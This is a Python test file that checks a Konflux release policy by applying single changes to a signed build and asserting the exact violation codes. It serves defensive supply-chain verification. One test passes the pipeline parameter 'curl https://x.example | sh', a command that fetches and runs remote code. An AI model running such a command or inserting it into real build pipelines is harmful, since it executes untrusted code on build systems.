"""Single mutations of a complete Konflux build, each caught by the konflux policy.

Every test publishes the complete build (see `release_e2e_support.Build`)
with one thing changed — signed and attested by our own `konflux sign` /
`konflux attest` in the real registry — runs `validate image` with
deploy/policies/konflux.yaml, and pins the exact violations: the rule that
catches the change, plus the rules that necessarily follow from it (said
why). Nothing else may fail, so a test also proves the mutation is single.
"""

from __future__ import annotations

from release_e2e_support import BASE_LABELS as BASE
from release_e2e_support import (
    COMMIT,
    LABELS,
    SOURCE_URL,
    ReleaseWorld,
    Vulnerability,
    codes,
)


def test_untrusted_task_bundle_fails(release, release_world: ReleaseWorld):
    report = release(bundles={"buildah": release_world.untrusted_bundle})
    # The untrusted task is the build task, so the image was not built by a trusted task either.
    assert codes(report) == {
        "release.trusted_task.trusted",
        "release.slsa_build_scripted_build.image_built_by_trusted_task",
    }


def test_unpinned_task_bundle_fails(release, release_world: ReleaseWorld):
    by_tag = release_world.bundles["run-tests"].split("@")[0]
    report = release(bundles={"run-tests": by_tag})
    # Without a digest the bundle matches no trusted record: that blocks. That the
    # reference is not pinned is, on its own, a warning (as in ec).
    assert codes(report) == {"release.trusted_task.trusted"}
    assert codes(report, "warnings") == {"release.tasks.pinned_task_refs"}


def test_failed_test_fails(release):
    report = release(test_output={"result": "FAILURE", "successes": 40, "failures": 2})
    assert codes(report) == {"release.test.no_failed_tests"}


def test_erred_test_fails(release):
    report = release(test_output={"result": "ERROR", "note": "the test pod was evicted"})
    assert codes(report) == {"release.test.no_erred_tests"}


def test_failed_task_fails(release):
    report = release(statuses={"source-build": "False"})
    assert codes(report) == {"release.tasks.successful_pipeline_tasks"}


def test_critical_cve_with_a_fix_fails(release):
    report = release(vulnerabilities=[Vulnerability("CVE-2026-0001", "critical", "3.0.8-1.el9")])
    assert codes(report) == {"release.cve.cve_blockers"}


def test_unreadable_scan_report_fails(release, release_world: ReleaseWorld):
    # A report reference whose blob was never pushed: the check cannot be done, so it fails.
    missing = f"{release_world.host}/konflux-e2e/app@sha256:{'e' * 64}"
    report = release(report_ref=missing)
    assert codes(report) == {"release.cve.cve_report_readable"}


def test_missing_required_task_fails(release):
    report = release(omit=frozenset({"clair-scan"}))
    # clair-scan is also what reports the scan: without it there is no report.
    assert codes(report) == {"release.tasks.required_tasks_found", "release.cve.cve_results_found"}


def test_base_image_from_a_disallowed_registry_fails(release):
    report = release(base_image="docker.io/library/alpine@sha256:" + "a1" * 32)
    assert codes(report) == {"release.base_image_registries.base_image_permitted"}


def test_missing_required_label_fails(release):
    labels = {k: v for k, v in LABELS.items() if k != "vendor"}
    report = release(labels=labels)
    assert codes(report) == {"release.labels.required_labels"}


def test_label_inherited_from_the_base_image_fails(release):
    # The parent's config is read from the registry (image annotation base.name/digest).
    report = release(labels={**LABELS, "description": BASE["description"]})
    assert codes(report) == {"release.labels.disallowed_inherited_labels"}


def test_non_git_material_fails(release):
    # A source archive named by its commit, instead of the git repository at that commit.
    archive = {"uri": f"{SOURCE_URL}/archive/{COMMIT}.tar.gz", "digest": {"sha1": COMMIT}}
    report = release(materials=[archive])
    # With no git material, neither the Snapshot's source nor git-clone's can be found in it.
    assert codes(report) == {
        "release.slsa_source_version_controlled.material_is_git",
        "release.slsa_source_correlated.attested_source_code_reference",
        "release.provenance_materials.git_clone_source_matches_provenance",
    }


def test_snapshot_source_not_built_fails(release):
    report = release(source={"git": {"url": SOURCE_URL, "revision": "f" * 40}})
    assert codes(report) == {"release.slsa_source_correlated.expected_source_code_reference"}


def test_non_hermetic_build_fails(release):
    report = release(params={"buildah": {"HERMETIC": "false"}})
    assert codes(report) == {"release.hermetic_task.hermetic"}


def test_unknown_builder_fails(release):
    report = release(builder_id="https://ci.example.com/jenkins")
    assert codes(report) == {"release.slsa_build_build_service.slsa_builder_id_accepted"}


def test_image_not_built_by_the_pipeline_fails(release):
    # The provenance of another build (its buildah digest) attested for this image.
    report = release(built_digest="sha256:" + "d" * 64)
    assert codes(report) == {
        "release.slsa_build_scripted_build.subject_build_task_matches",
        "release.slsa_build_scripted_build.image_built_by_build_task",
    }


def test_disallowed_package_fails(release):
    leaky = {
        "type": "library",
        "name": "github.com/example/leaky-logger",
        "version": "v1.3.0",
        "purl": "pkg:golang/github.com/example/leaky-logger@v1.3.0",
    }
    report = release(sbom_components=[leaky])
    assert codes(report) == {"release.sbom_cyclonedx.allowed_packages"}


def test_disallowed_target_branch_fails(release):
    report = release(target_branch="feature/try-something")
    assert codes(report) == {"release.git_branch.git_branch"}


def test_unexpected_pipeline_parameter_fails(release):
    report = release(pipeline_params={"extra-build-script": "curl https://x.example | sh"})
    assert codes(report) == {"release.external_parameters.pipeline_run_params"}


def test_commit_mismatch_between_clone_and_materials_fails(release):
    other = "0" * 40
    report = release(results={"git-clone": {"url": SOURCE_URL, "commit": other}})
    assert codes(report) == {"release.provenance_materials.git_clone_source_matches_provenance"}
    assert other != COMMIT  # the materials keep the commit that was really built
